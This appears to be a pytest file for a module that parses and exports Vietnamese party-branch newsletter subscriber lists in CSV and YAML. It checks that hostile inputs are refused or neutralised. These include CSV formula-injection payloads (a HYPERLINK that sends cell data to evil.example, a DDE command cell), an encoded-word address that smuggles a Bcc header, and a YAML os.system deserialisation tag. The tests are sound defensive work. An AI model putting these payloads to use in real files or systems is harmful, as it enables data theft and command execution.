"""The subscriber directory file: reading CSV and YAML, every check with its line, export."""

from __future__ import annotations

import codecs
import csv
import io
import re
import tomllib
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from syndication.directory import (
    FIELDS,
    DirectoryError,
    ExportRow,
    Parsed,
    RowProblem,
    escape_formula,
    export_csv,
    normalise_address,
    parse,
    parse_csv,
    parse_yaml,
    single_row,
    unescape_formula,
)
from syndication.text import clean_line, tone_key
from syndication.types import SubscriberData
from tests.vietnamese import encode_cp1258

ROOT = Path(__file__).resolve().parent.parent
SAMPLE = ROOT / "subscribers" / "branches.csv"
SOURCE = "subscribers/branches.csv"
CATEGORIES = ("tin-tuc-su-kien", "xay-dung-dang", "van-hoa-xa-hoi")
DIGESTS = ("daily", "weekly")
HEADER = "email,name,organisation,parent,categories,digest,status\n"


def read(text: str, *, digests: tuple[str, ...] = DIGESTS) -> Parsed:
    return parse_csv(text.encode(), source=SOURCE, categories=CATEGORIES, digests=digests)


def messages(parsed: Parsed) -> list[str]:
    return [str(problem) for problem in parsed.problems]


def one(text: str, **kwargs: tuple[str, ...]) -> str:
    """The only problem of a file, as the CLI prints it."""
    parsed = read(text, **kwargs)
    assert len(parsed.problems) == 1, messages(parsed)
    return str(parsed.problems[0])


# --- the sample ---------------------------------------------------------------------------


def test_sample_parses_clean() -> None:
    parsed = parse_csv(SAMPLE.read_bytes(), source=SOURCE, categories=CATEGORIES, digests=DIGESTS)
    assert parsed.problems == ()
    assert len(parsed.rows) >= 8
    assert parsed.lines == tuple(range(2, len(parsed.rows) + 2))
    branches = {row.organisation for row in parsed.rows}
    assert {"Chi bộ Văn phòng", "Chi bộ Ban Tuyên giáo", "Đảng bộ Sở Tài chính"} <= branches
    for branch in branches:  # several addresses per branch: secretary, deputy, shared mailbox
        assert sum(row.organisation == branch for row in parsed.rows) >= 2
    finance = next(row for row in parsed.rows if row.organisation == "Đảng bộ Sở Tài chính")
    assert finance.organisation_parent == "Đảng bộ Khối các cơ quan tỉnh"
    assert {row.digest for row in parsed.rows} == {"daily", "weekly"}
    assert any(row.categories == () for row in parsed.rows)
    assert any(row.status == "pending" for row in parsed.rows)


def test_sample_uses_only_reserved_domains_and_the_bundled_categories() -> None:
    rows = parse(SAMPLE.read_bytes(), source=SOURCE, categories=CATEGORIES, digests=DIGESTS).rows
    for row in rows:
        domain = row.address.rpartition("@")[2]
        assert domain in {"example.org", "example.com", "example.net"} or domain.endswith(".example"), domain
    config = tomllib.loads((ROOT / "config" / "syndication.toml").read_text("utf-8"))
    slugs = {category["slug"] for category in config["categories"]}
    assert set(CATEGORIES) <= slugs
    assert {slug for row in rows for slug in row.categories} <= slugs
    if "digests" in config:
        assert {row.digest for row in rows} <= {digest["name"] for digest in config["digests"]}


def test_a_good_row_becomes_subscriber_data() -> None:
    parsed = read(
        HEADER + " Bithu@Example.ORG , Nguyễn  Văn Hùng ,Chi bộ Văn phòng,Đảng bộ Khối,"
        '"XAY-DUNG-DANG, tin-tuc-su-kien;xay-dung-dang",Weekly,Pending\n'
    )
    assert parsed.problems == ()
    assert parsed.rows == (
        SubscriberData(
            address="bithu@example.org",
            display_name="Nguyễn Văn Hùng",
            organisation="Chi bộ Văn phòng",
            organisation_parent="Đảng bộ Khối",
            categories=("tin-tuc-su-kien", "xay-dung-dang"),
            digest="weekly",
            status="pending",
        ),
    )


def test_defaults_only_email_is_needed() -> None:
    parsed = read("email\nbithu@example.org\n")
    assert parsed.rows == (SubscriberData(address="bithu@example.org"),)
    assert parsed.rows[0].digest == "daily"
    assert parsed.rows[0].status == "active"


@pytest.mark.parametrize("value", ["", "Tất cả", "tat ca", "ALL", "*"])
def test_empty_or_all_categories_mean_all(value: str) -> None:
    parsed = read(f"email,categories\na@example.org,{value}\n")
    assert parsed.problems == ()
    assert parsed.rows[0].categories == ()


def test_categories_are_sorted_without_repeats() -> None:
    parsed = read('email,categories\na@example.org,"van-hoa-xa-hoi, xay-dung-dang;van-hoa-xa-hoi"\n')
    assert parsed.rows[0].categories == ("van-hoa-xa-hoi", "xay-dung-dang")


# --- every check, with its line ---------------------------------------------------------------


def test_invalid_address_names_line_column_and_reason() -> None:
    text = HEADER + "a@example.org,,,,,,\nchi bo@example,,,,,,\n"
    assert one(text) == (
        'subscribers/branches.csv:3: email: "chi bo@example" is not a valid e-mail address '
        "(The email address contains invalid characters before the @-sign: SPACE)"
    )
    assert [row.address for row in read(text).rows] == ["a@example.org"]


def test_every_bad_row_is_reported_not_only_the_first() -> None:
    text = HEADER + "x,,,,,,\na@example.org,,,,,,\nno-at-sign,,,,,,\n@example.org,,,,,,\n"
    parsed = read(text)
    assert [(p.line, p.column) for p in parsed.problems] == [(2, "email"), (4, "email"), (5, "email")]
    assert parsed.lines == (3,)


def test_empty_address() -> None:
    assert one(HEADER + ",Nguyễn Văn A,,,,,\n") == (
        "subscribers/branches.csv:2: email: is empty: every row needs an e-mail address"
    )


def test_address_is_normalised_and_internationalised_domains_are_allowed() -> None:
    parsed = read("email\nBiThu@BỘ.Example.ORG\n")
    assert parsed.problems == ()
    assert parsed.rows[0].address == "bithu@bộ.example.org"


def test_normalise_address_is_the_same_rule_for_forms_and_the_cli() -> None:
    assert normalise_address("  BiThu@Example.ORG ") == "bithu@example.org"
    with pytest.raises(ValueError, match=r'^"a@localhost" is not a valid e-mail address \(The part after'):
        normalise_address("a@localhost")


def test_an_address_shaped_like_an_encoded_word_is_refused() -> None:
    # Readers that decode it would see a line break and a Bcc of the writer's choosing.
    problem = one("email\n=?utf-8?q?v=0D=0ABcc=3A_evil=40evil.example?=@example.org\n")
    assert problem.startswith('subscribers/branches.csv:2: email: "=?utf-8?q?v=0D=0ABcc')
    assert "looks like an encoded word" in problem
    with pytest.raises(DirectoryError, match="encoded word"):
        single_row(
            address="=?utf-8?b?YUBiLmNvbQ==?=@example.org",
            known_categories=CATEGORIES,
            known_digests=DIGESTS,
        )


def test_diacritics_before_the_at_sign_are_refused() -> None:
    problem = one("email\nnguyễn.văn.a@example.org\n")
    assert problem.startswith('subscribers/branches.csv:2: email: "nguyễn.văn.a@example.org" is not a valid')
    assert "before the @-sign" in problem


def test_unknown_category_lists_the_known_ones() -> None:
    assert one(HEADER + "a@example.org,,,,xay-dung;van-hoa-xa-hoi,,\n") == (
        'subscribers/branches.csv:2: categories: unknown category "xay-dung" '
        '(known: tin-tuc-su-kien, van-hoa-xa-hoi, xay-dung-dang); did you mean "xay-dung-dang"?'
    )


def test_unknown_digest_lists_the_known_ones() -> None:
    text = HEADER + "a@example.org,,,,,daily,\nb@example.org,,,,,monthly,\n"
    assert one(text) == 'subscribers/branches.csv:3: digest: unknown digest "monthly" (known: daily, weekly)'


def test_digest_is_required_when_there_is_no_daily() -> None:
    assert one("email\na@example.org\n", digests=("weekly",)) == (
        'subscribers/branches.csv:1: the column "digest" is missing '
        '(there is no "daily" digest to use when it is left out)'
    )
    assert one("email,digest\na@example.org,weekly\nb@example.org,\n", digests=("weekly",)) == (
        "subscribers/branches.csv:3: digest: is empty: choose one of weekly"
    )


def test_unknown_status() -> None:
    text = (
        HEADER + "a@example.org,,,,,,Unsubscribed\nb@example.org,,,,,,BOUNCED\nc@example.org,,,,,,deleted\n"
    )
    assert one(text) == (
        'subscribers/branches.csv:4: status: unknown status "deleted" '
        "(use active, pending, unsubscribed, bounced)"
    )
    assert [row.status for row in read(text).rows] == ["unsubscribed", "bounced"]


def test_duplicate_address_reports_both_lines_and_keeps_neither() -> None:
    text = HEADER + "a@example.org,,,,,,\nb@example.org,,,,,,\n\nA@Example.org,,,,,,\n"
    parsed = read(text)
    assert messages(parsed) == [
        'subscribers/branches.csv:2: email: "a@example.org" appears again on line 5',
        'subscribers/branches.csv:5: email: "a@example.org" is already on line 2',
    ]
    assert [row.address for row in parsed.rows] == ["b@example.org"]


def test_address_on_three_lines() -> None:
    parsed = read("email\na@example.org\na@example.org\na@example.org\n")
    assert messages(parsed) == [
        'subscribers/branches.csv:2: email: "a@example.org" appears again on line 3, 4',
        'subscribers/branches.csv:3: email: "a@example.org" is already on line 2',
        'subscribers/branches.csv:4: email: "a@example.org" is already on line 2',
    ]


def test_unknown_column_is_a_problem_on_line_1_and_rows_still_parse() -> None:
    parsed = read("email,Ghi chú,nmae\na@example.org,trưởng ban,x\n")
    assert [(p.line, p.column) for p in parsed.problems] == [(1, "Ghi chú"), (1, "nmae")]
    assert parsed.problems[0].message.startswith("unknown column; the columns are email, name, organisation")
    assert parsed.problems[1].message.endswith('did you mean "name"?')
    assert [row.address for row in parsed.rows] == ["a@example.org"]


def test_the_same_column_twice() -> None:
    assert one("email,Địa chỉ email\na@example.org,b@example.org\n") == (
        'subscribers/branches.csv:1: Địa chỉ email: names the same column as "email"'
    )


def test_missing_email_column_reads_no_rows() -> None:
    parsed = read("name,organisation\nNguyễn Văn A,Chi bộ Văn phòng\n")
    assert messages(parsed) == ['subscribers/branches.csv:1: the column "email" is missing']
    assert parsed.rows == ()


@pytest.mark.parametrize("data", [b"", b"\n\n", codecs.BOM_UTF8, b" ,,\n"])
def test_empty_file(data: bytes) -> None:
    parsed = parse_csv(data, source=SOURCE, categories=CATEGORIES, digests=DIGESTS)
    assert len(parsed.problems) == 1
    assert str(parsed.problems[0]).startswith("subscribers/branches.csv:1: the file is empty")


def test_header_only_is_an_empty_directory() -> None:
    assert read(HEADER) == Parsed()


def test_empty_rows_are_skipped_and_lines_still_count() -> None:
    text = "\n" + HEADER + "a@example.org,,,,,,\n\n,,,,,,\n  ,\u00a0, \nbad,,,,,,\n"
    parsed = read(text)
    assert [(p.line, p.column) for p in parsed.problems] == [(7, "email")]
    assert parsed.lines == (3,)


def test_multi_line_quoted_fields_count_every_line() -> None:
    text = (
        HEADER  # line 1
        + 'a@example.org,"Nguyễn\nVăn\nA",,,,,\n'  # lines 2-4
        + 'b@example.org,"Trần\r\nThị B",,,,,\n'  # lines 5-6
        + "bad address,,,,,,\n"  # line 7
    )
    parsed = read(text)
    assert [p.line for p in parsed.problems] == [7]
    assert parsed.lines == (2, 5)
    assert [row.display_name for row in parsed.rows] == ["Nguyễn Văn A", "Trần Thị B"]


def test_unclosed_quote_says_where_the_row_runs() -> None:
    text = HEADER + 'a@example.org,,,,,,\nb@example.org,,,,,"daily,\nc@example.org,,,,,,\n'
    parsed = read(text)
    assert messages(parsed) == [
        "subscribers/branches.csv:3: digest: contains a line break "
        "(the row runs from line 3 to line 4: is a closing quote missing?)"
    ]


def test_over_long_fields_are_refused() -> None:
    name = "Nguyễn " * 40
    assert one(f"email,name\na@example.org,{name}\n") == (
        "subscribers/branches.csv:2: name: is 280 characters long; at most 200 fit"
    )
    assert "characters long" in one(f"email\n{'a' * 400}@example.org\n")


def test_a_huge_field_stops_reading_with_a_problem_on_its_line() -> None:
    text = "email,name\na@example.org,x\nb@example.org," + "x" * 200_000 + "\nc@example.org,y\n"
    parsed = read(text)
    assert [p.line for p in parsed.problems] == [3]
    assert "cannot read this line as CSV" in parsed.problems[0].message
    assert [row.address for row in parsed.rows] == ["a@example.org"]


def test_extra_cells_and_values_without_a_column() -> None:
    text = "email,name,\na@example.org,A,\nb@example.org,B,x\nc@example.org,C,,y\n"
    assert messages(read(text)) == [
        "subscribers/branches.csv:3: column 3 has a value but no name in the header",
        "subscribers/branches.csv:4: this row has 4 cells but the header names 3",
    ]
    assert [row.address for row in read(text).rows] == ["a@example.org"]


def test_trailing_empty_cells_are_fine() -> None:
    parsed = read("email,name\na@example.org,A,,,\nb@example.org\n")
    assert parsed.problems == ()
    assert [row.display_name for row in parsed.rows] == ["A", ""]


def test_fewer_cells_than_columns_are_empty() -> None:
    parsed = read(HEADER + "a@example.org,Nguyễn Văn A\n")
    assert parsed.problems == ()
    assert parsed.rows[0].display_name == "Nguyễn Văn A"


def test_organisation_must_be_spelt_one_way() -> None:
    text = (
        "email,organisation\n"
        "a@example.org,Chi bộ Văn phòng\n"
        "b@example.org,Chi bộ văn  phòng\n"
        "c@example.org,Chi bộ Văn phòng\n"
    )
    assert one(text) == (
        'subscribers/branches.csv:3: organisation: "Chi bộ văn phòng" is written "Chi bộ Văn phòng" '
        "on line 2: write it the same way everywhere"
    )


def test_one_parent_per_organisation_and_it_fills_the_other_rows() -> None:
    text = (
        "email,organisation,parent\n"
        "a@example.org,Đảng bộ Sở Tài chính,\n"
        "b@example.org,Đảng bộ Sở Tài chính,Đảng bộ Khối các cơ quan tỉnh\n"
        "c@example.org,Đảng bộ Sở Tài chính,Đảng bộ Khối doanh nghiệp\n"
    )
    parsed = read(text)
    assert messages(parsed) == [
        'subscribers/branches.csv:4: parent: "Đảng bộ Sở Tài chính" has the parent '
        '"Đảng bộ Khối các cơ quan tỉnh" on line 3'
    ]
    assert [row.organisation_parent for row in parsed.rows] == ["Đảng bộ Khối các cơ quan tỉnh"] * 2


def test_parent_needs_an_organisation_other_than_itself() -> None:
    text = "email,organisation,parent\na@example.org,,Đảng bộ Khối\nb@example.org,Chi bộ A,Chi bộ a\n"
    assert messages(read(text)) == [
        "subscribers/branches.csv:2: parent: a parent is given but the organisation is empty",
        'subscribers/branches.csv:3: parent: "Chi bộ a" is written "Chi bộ A" on line 3: '
        "write it the same way everywhere",
        'subscribers/branches.csv:3: parent: "Chi bộ a" cannot be the parent of itself',
    ]


def test_single_row_is_checked_like_a_file_row() -> None:
    row = single_row(
        address=" BiThu@Example.org",
        display_name="Nguyễn  Văn Hùng",
        organisation="Chi bộ Văn phòng",
        categories=["xay-dung-dang"],
        digest="weekly",
        known_categories=CATEGORIES,
        known_digests=DIGESTS,
    )
    assert row == SubscriberData(
        address="bithu@example.org",
        display_name="Nguyễn Văn Hùng",
        organisation="Chi bộ Văn phòng",
        categories=("xay-dung-dang",),
        digest="weekly",
    )
    with pytest.raises(DirectoryError) as caught:
        single_row(
            address="chi bo@example",
            categories=["xay-dung"],
            digest="monthly",
            known_categories=CATEGORIES,
            known_digests=DIGESTS,
        )
    assert [p.column for p in caught.value.problems] == ["email", "categories", "digest"]
    assert str(caught.value).startswith('email: "chi bo@example" is not a valid e-mail address')
    assert '; digest: unknown digest "monthly" (known: daily, weekly)' in str(caught.value)


def test_row_problem_without_column() -> None:
    assert str(RowProblem("x.csv", 4, None, "bad")) == "x.csv:4: bad"
    assert str(RowProblem(source="x.csv", line=4, column="email", message="bad")) == "x.csv:4: email: bad"


# --- what spreadsheets write ----------------------------------------------------------------

VIETNAMESE_HEADER = "Địa chỉ email;Họ và tên;Chi bộ;Trực thuộc;Chuyên mục;Bản tin;Trạng thái\r\n"
ROW = (
    "bithu@example.org;Nguyễn Văn Hùng;Chi bộ Văn phòng;Đảng bộ Khối;"
    "xay-dung-dang,tin-tuc-su-kien;weekly;active\r\n"
)
EXPECTED = SubscriberData(
    address="bithu@example.org",
    display_name="Nguyễn Văn Hùng",
    organisation="Chi bộ Văn phòng",
    organisation_parent="Đảng bộ Khối",
    categories=("tin-tuc-su-kien", "xay-dung-dang"),
    digest="weekly",
)


@pytest.mark.parametrize(
    "data",
    [
        pytest.param((VIETNAMESE_HEADER + ROW).encode(), id="utf-8, ';' (Vietnamese-locale Excel)"),
        pytest.param(codecs.BOM_UTF8 + (VIETNAMESE_HEADER + ROW).encode(), id="utf-8 with BOM"),
        pytest.param(
            (VIETNAMESE_HEADER + ROW).replace(";", "\t").encode("utf-16"),
            id="utf-16 with BOM, tabs (Excel 'Unicode text')",
        ),
        pytest.param(
            (VIETNAMESE_HEADER + ROW).replace(";", "\t").encode("utf-16-le"), id="utf-16-le, no BOM"
        ),
        pytest.param(
            (VIETNAMESE_HEADER + ROW).replace(";", "\t").encode("utf-16-be"), id="utf-16-be, no BOM"
        ),
        pytest.param(
            (VIETNAMESE_HEADER + ROW).encode("utf-32"),
            id="utf-32 with BOM",
        ),
        pytest.param(
            ("EMAIL,ho va ten,TO CHUC,cap tren,chuyen muc,ban tin,trang thai\n" + ROW.replace(";", ",", 4))
            .replace("dang,tin", "dang;tin")
            .replace(";weekly;active", ",weekly,active")
            .encode(),
            id="headers without diacritics, ','",
        ),
    ],
)
def test_spreadsheet_variants(data: bytes) -> None:
    parsed = parse_csv(data, source=SOURCE, categories=CATEGORIES, digests=DIGESTS)
    assert parsed.problems == ()
    assert parsed.rows == (EXPECTED,)


def test_fields_are_nfc() -> None:
    import unicodedata

    decomposed = unicodedata.normalize(
        "NFD", "email,name,organisation\na@example.org,Nguyễn Văn Hùng,Chi bộ\n"
    )
    parsed = read(decomposed)
    assert parsed.rows[0].display_name == "Nguyễn Văn Hùng"
    assert parsed.rows[0].organisation == "Chi bộ"


def test_stray_nul_bytes_do_not_make_it_utf16() -> None:
    parsed = parse_csv(b"email,name\na@example.org,A\x00n\n", source=SOURCE, categories=(), digests=DIGESTS)
    assert parsed.problems == ()
    assert parsed.rows[0].display_name == "An"


def test_a_bad_byte_after_the_bom() -> None:
    data = codecs.BOM_UTF8 + b"email\na@example.org\nb\xe0@example.org\n"
    problem = str(parse_csv(data, source=SOURCE, categories=(), digests=DIGESTS).problems[0])
    assert problem.startswith("subscribers/branches.csv:3: the file is not UTF-8 text (byte 0xE0)")


def test_broken_utf16() -> None:
    data = codecs.BOM_UTF16_LE + "email\na@example.org\n".encode("utf-16-le") + b"\x00\xd8a\x00"
    problem = str(parse_csv(data, source=SOURCE, categories=(), digests=DIGESTS).problems[0])
    assert problem.startswith("subscribers/branches.csv:3: the file is not UTF-16-LE text")


def test_legacy_encodings_are_refused_with_the_line() -> None:
    data = encode_cp1258("email,name\na@example.org,Ha Noi\nb@example.org,Nguyễn Văn Hùng\n")
    parsed = parse_csv(data, source=SOURCE, categories=CATEGORIES, digests=DIGESTS)
    assert len(parsed.problems) == 1
    problem = str(parsed.problems[0])
    assert problem.startswith("subscribers/branches.csv:3: the file is not UTF-8 text (byte 0x")
    assert "CSV UTF-8" in problem
    assert parsed.rows == ()


def test_the_separator_comes_from_the_header() -> None:
    # Commas inside the names do not fool the guess: the header decides.
    text = "email;name\na@example.org;Nguyễn Văn A, Bí thư\n"
    assert read(text).rows[0].display_name == "Nguyễn Văn A, Bí thư"
    text = "email,name\na@example.org,Nguyễn Văn A; Bí thư\n"
    assert read(text).rows[0].display_name == "Nguyễn Văn A; Bí thư"


# --- YAML -----------------------------------------------------------------------------------

SAMPLE_YAML = """\
# The same directory as branches.csv, in YAML.
- email: bithu.vanphong@example.org
  name: Nguyễn Văn Hùng
  organisation: Chi bộ Văn phòng
  parent: Đảng bộ Khối các cơ quan tỉnh
  digest: daily
- email: phobithu.vanphong@example.org
  name: Trần Thị Mai
  organisation: Chi bộ Văn phòng
  parent: Đảng bộ Khối các cơ quan tỉnh
  categories: [xay-dung-dang, tin-tuc-su-kien]
- email: vanphong@example.org
  name: Hộp thư chung Chi bộ Văn phòng
  organisation: Chi bộ Văn phòng
  parent: Đảng bộ Khối các cơ quan tỉnh
  digest: weekly
"""


def read_yaml(text: str) -> Parsed:
    return parse_yaml(
        text.encode(), source="subscribers/branches.yaml", categories=CATEGORIES, digests=DIGESTS
    )


def test_yaml_is_equivalent_to_csv() -> None:
    from_yaml = read_yaml(SAMPLE_YAML)
    from_csv = parse_csv(SAMPLE.read_bytes(), source=SOURCE, categories=CATEGORIES, digests=DIGESTS)
    assert from_yaml.problems == ()
    assert from_yaml.rows == from_csv.rows[:3]
    assert from_yaml.lines == (2, 7, 12)
    wrapped = "subscribers:\n" + "".join(f"  {line}\n" for line in SAMPLE_YAML.splitlines())
    assert read_yaml(wrapped).rows == from_yaml.rows
    by_name = parse(SAMPLE_YAML.encode(), source="x.yml", categories=CATEGORIES, digests=DIGESTS)
    assert by_name.rows == from_yaml.rows


def test_yaml_problems_carry_the_line_of_the_value() -> None:
    text = """\
- email: a@example.org
  categories:
    - xay-dung-dang
    - xay-dung
- email: chi bo@example
  status: on
- email: a@example.org
  ghi chu: x
- just text
- email: c@example.org
  name: [not, text]
- email: d@example.org
  name: A
  name: B
"""
    assert messages(read_yaml(text)) == [
        'subscribers/branches.yaml:1: email: "a@example.org" appears again on line 7',
        'subscribers/branches.yaml:3: categories: unknown category "xay-dung" (known: tin-tuc-su-kien, '
        'van-hoa-xa-hoi, xay-dung-dang); did you mean "xay-dung-dang"?',
        'subscribers/branches.yaml:5: email: "chi bo@example" is not a valid e-mail address '
        "(The email address contains invalid characters before the @-sign: SPACE)",
        'subscribers/branches.yaml:6: status: unknown status "on" '
        "(use active, pending, unsubscribed, bounced)",
        'subscribers/branches.yaml:7: email: "a@example.org" is already on line 1',
        "subscribers/branches.yaml:8: ghi chu: unknown key; the keys are email, name, organisation, parent, "
        'categories, digest, status (Vietnamese names such as "Họ và tên" or "Chi bộ" work too)',
        "subscribers/branches.yaml:9: each entry must be a mapping (email: ..., name: ...)",
        "subscribers/branches.yaml:11: name: must be text",
        'subscribers/branches.yaml:14: name: names the same key as "name"',
    ]
    parsed = read_yaml(text)
    assert [(p.line, p.column) for p in parsed.problems] == [
        (1, "email"),
        (3, "categories"),
        (5, "email"),
        (6, "status"),
        (7, "email"),
        (8, "ghi chu"),
        (9, None),
        (11, "name"),
        (14, "name"),
    ]
    assert parsed.rows == ()


def test_yaml_entry_without_email() -> None:
    assert messages(read_yaml("- email: a@example.org\n- name: Nguyễn Văn A\n")) == [
        'subscribers/branches.yaml:2: the entry has no "email": every row needs an e-mail address'
    ]


def test_yaml_entry_without_digest_when_there_is_no_daily() -> None:
    text = "- email: a@example.org\n  digest: weekly\n- email: b@example.org\n"
    parsed = parse_yaml(text.encode(), source="d.yaml", categories=CATEGORIES, digests=("weekly",))
    assert messages(parsed) == ['d.yaml:3: the entry has no "digest": choose one of weekly']
    assert [row.address for row in parsed.rows] == ["a@example.org"]


def test_yaml_must_be_utf8_too() -> None:
    parsed = parse_yaml(
        encode_cp1258("- email: a@example.org\n  name: Hà Nội\n"),
        source="d.yaml",
        categories=(),
        digests=DIGESTS,
    )
    assert messages(parsed)[0].startswith("d.yaml:2: the file is not UTF-8 text")
    assert parse_yaml(
        SAMPLE_YAML.encode("utf-16"), source="d.yaml", categories=CATEGORIES, digests=DIGESTS
    ).rows


def test_yaml_keeps_scalars_as_written_and_constructs_nothing() -> None:
    text = "- email: a@example.org\n  name: 0123\n  status: !!python/object/apply:os.system [echo]\n"
    parsed = read_yaml(text)
    assert [(p.line, p.column, p.message) for p in parsed.problems] == [(3, "status", "must be text")]
    parsed = read_yaml("- email: a@example.org\n  name: !!python/name:os.system\n")
    assert [(p.line, p.column, p.message) for p in parsed.problems] == [(2, "name", "must be text")]
    parsed = read_yaml("- email: a@example.org\n  name: 0123\n  organisation: null\n")
    assert parsed.rows == (SubscriberData(address="a@example.org", display_name="0123"),)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "- email: a@example.org\n  name: [unclosed\n",
            "subscribers/branches.yaml:3: this is not valid YAML",
        ),
        ("", "subscribers/branches.yaml:1: the file is empty"),
        ("email: a@example.org\n", 'subscribers/branches.yaml:1: the only top-level key is "subscribers"'),
        ("subscribers: 3\n", "subscribers/branches.yaml:1: expected a list of entries"),
    ],
)
def test_yaml_file_problems(text: str, expected: str) -> None:
    assert messages(read_yaml(text))[0].startswith(expected)


# --- export ---------------------------------------------------------------------------------


def test_export_is_utf8_with_bom_and_a_header() -> None:
    data = export_csv([EXPECTED])
    assert data.startswith(codecs.BOM_UTF8 + b"email,name,organisation,parent,categories,digest,status\r\n")
    assert data.decode("utf-8-sig").splitlines()[1] == (
        "bithu@example.org,Nguyễn Văn Hùng,Chi bộ Văn phòng,Đảng bộ Khối,"
        "tin-tuc-su-kien;xay-dung-dang,weekly,active"
    )
    assert export_csv([]) == codecs.BOM_UTF8 + ",".join(FIELDS).encode() + b"\r\n"


def test_export_takes_export_rows_too() -> None:
    row = ExportRow(
        address="bithu@example.org",
        display_name="Nguyễn Văn Hùng",
        organisation="Chi bộ Văn phòng",
        parent="Đảng bộ Khối",
        categories=("tin-tuc-su-kien", "xay-dung-dang"),
        digest="weekly",
    )
    assert export_csv([row]) == export_csv([EXPECTED])


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_export_round_trips_the_sample(delimiter: str) -> None:
    rows = parse_csv(SAMPLE.read_bytes(), source=SOURCE, categories=CATEGORIES, digests=DIGESTS).rows
    data = export_csv(rows, delimiter=delimiter)  # type: ignore[arg-type]
    again = parse_csv(data, source="export.csv", categories=CATEGORIES, digests=DIGESTS)
    assert again.problems == ()
    assert again.rows == rows


DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "Phạm D\r\n=1+1",
    "＝1+1",
    "Nguyễn Văn A;=1+1",
    "Trần Thị B, -1+1",
    "Lê C\t@SUM(A1)",
    '"=1+1',
    'Phạm E;"=1+1',
]


FORMULA_CELL = re.compile(r"\s*[=+\-@\t\r\0＝＋－＠]")
"""A cell a spreadsheet could take for a formula (OWASP's starting characters)."""
FORMULA_AFTER_SPACE = re.compile(r"\s*[=+\-@＝＋－＠]")


def assert_no_formula(data: bytes, delimiter: str = ",") -> None:
    """No cell can start a formula, also when a spreadsheet splits the rows on another
    separator than ours (then our own separators can lead a piece: whitespace, not data)."""
    text = data.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
    for cell in cells:
        assert not FORMULA_CELL.match(cell), cell
    for piece in re.split(r"[,;\t\r\n]", text):
        assert not FORMULA_AFTER_SPACE.match(piece.lstrip('"')), piece


def test_export_neutralises_formulas() -> None:
    rows = [
        SubscriberData(address="a@example.org", display_name=name, organisation=name, organisation_parent="P")
        for name in DANGEROUS
    ]
    data = export_csv(rows)
    assert_no_formula(data)
    text = data.decode("utf-8-sig")
    assert "'=HYPERLINK(" in text
    assert "'+1+1" in text
    assert "Nguyễn Văn A;'=1+1" in text


@pytest.mark.parametrize("value", DANGEROUS)
def test_escape_formula_round_trips(value: str) -> None:
    escaped = escape_formula(value)
    assert escaped != value
    assert unescape_formula(escaped) == value


@pytest.mark.parametrize("value", ["Nguyễn Văn A", "a-b@example.org", "x=1", "", "'quoted'", "1,5"])
def test_escape_formula_leaves_normal_values_alone(value: str) -> None:
    assert escape_formula(value) == value


def test_a_value_that_starts_with_the_quote_mark_keeps_it() -> None:
    assert escape_formula("'=1+1") == "''=1+1"
    assert unescape_formula("''=1+1") == "'=1+1"
    assert escape_formula("a;'-b") == "a;''-b"


@given(st.text(alphabet="=+-@\t\r\0 ',;\"aă＝\n", max_size=30))
def test_escape_formula_is_undone_and_leaves_no_formula_cell(value: str) -> None:
    escaped = escape_formula(value)
    assert unescape_formula(escaped) == value
    assert not FORMULA_CELL.match(escaped)
    for part in re.split(r"[,;\t\r\n]", escaped)[1:]:
        assert not FORMULA_CELL.match(part), (escaped, part)


def test_dangerous_values_round_trip_through_export() -> None:
    rows = [
        SubscriberData(address="-ban@example.org", display_name="=1+1"),
        SubscriberData(address="+tin@example.org", display_name="Nguyễn Văn A;=1+1", organisation="@Chi bộ"),
        SubscriberData(address="=x@example.org", display_name="-Trần-"),
    ]
    data = export_csv(rows)
    assert b"'-ban@example.org" in data
    parsed = parse_csv(data, source="export.csv", categories=CATEGORIES, digests=DIGESTS)
    assert parsed.problems == ()
    assert parsed.rows == tuple(rows)


VIETNAMESE_LETTERS = (
    "aàáảãạăằắẳẵặâầấẩẫậeèéẻẽẹêềếểễệiìíỉĩịoòóỏõọôồốổỗộơờớởỡợuùúủũụưừứửữựyỳýỷỹỵđ"
    "AÀÁẢÃẠĂẰẮẲẴẶÂẦẤẨẪẬEÈÉẺẼẸÊỀẾỂỄỆIÌÍỈĨỊOÒÓỎÕỌÔỒỐỔỖỘƠỜỚỞỠỢUÙÚỦŨỤƯỪỨỬỮỰYỲÝỶỸỴĐ"
    "bcdghklmnpqrstvx0123456789"
)
names = st.text(alphabet=VIETNAMESE_LETTERS + " .,;:\"'()/&-=+@\t", min_size=1, max_size=80).map(clean_line)


@st.composite
def directories(draw: st.DrawFn) -> list[SubscriberData]:
    organisation = draw(names)
    parent = draw(st.none() | names.filter(lambda p: tone_key(p) != tone_key(organisation)))
    count = draw(st.integers(min_value=1, max_value=5))
    return [
        SubscriberData(
            address=f"{draw(st.sampled_from(['', '-', '+', '=']))}user{i}@example.org",
            display_name=draw(names),
            organisation=organisation or None,
            organisation_parent=(parent or None) if organisation else None,
            categories=tuple(sorted(draw(st.sets(st.sampled_from(CATEGORIES))))),
            digest=draw(st.sampled_from(DIGESTS)),
            status=draw(st.sampled_from(["active", "pending", "unsubscribed", "bounced"])),
        )
        for i in range(count)
    ]


@given(directories(), st.sampled_from([",", ";", "\t"]))
def test_export_then_parse_round_trips_vietnamese_names(rows: list[SubscriberData], delimiter: str) -> None:
    data = export_csv(rows, delimiter=delimiter)  # type: ignore[arg-type]
    parsed = parse_csv(data, source="export.csv", categories=CATEGORIES, digests=DIGESTS)
    assert parsed.problems == ()
    assert list(parsed.rows) == rows
    assert_no_formula(data, delimiter)
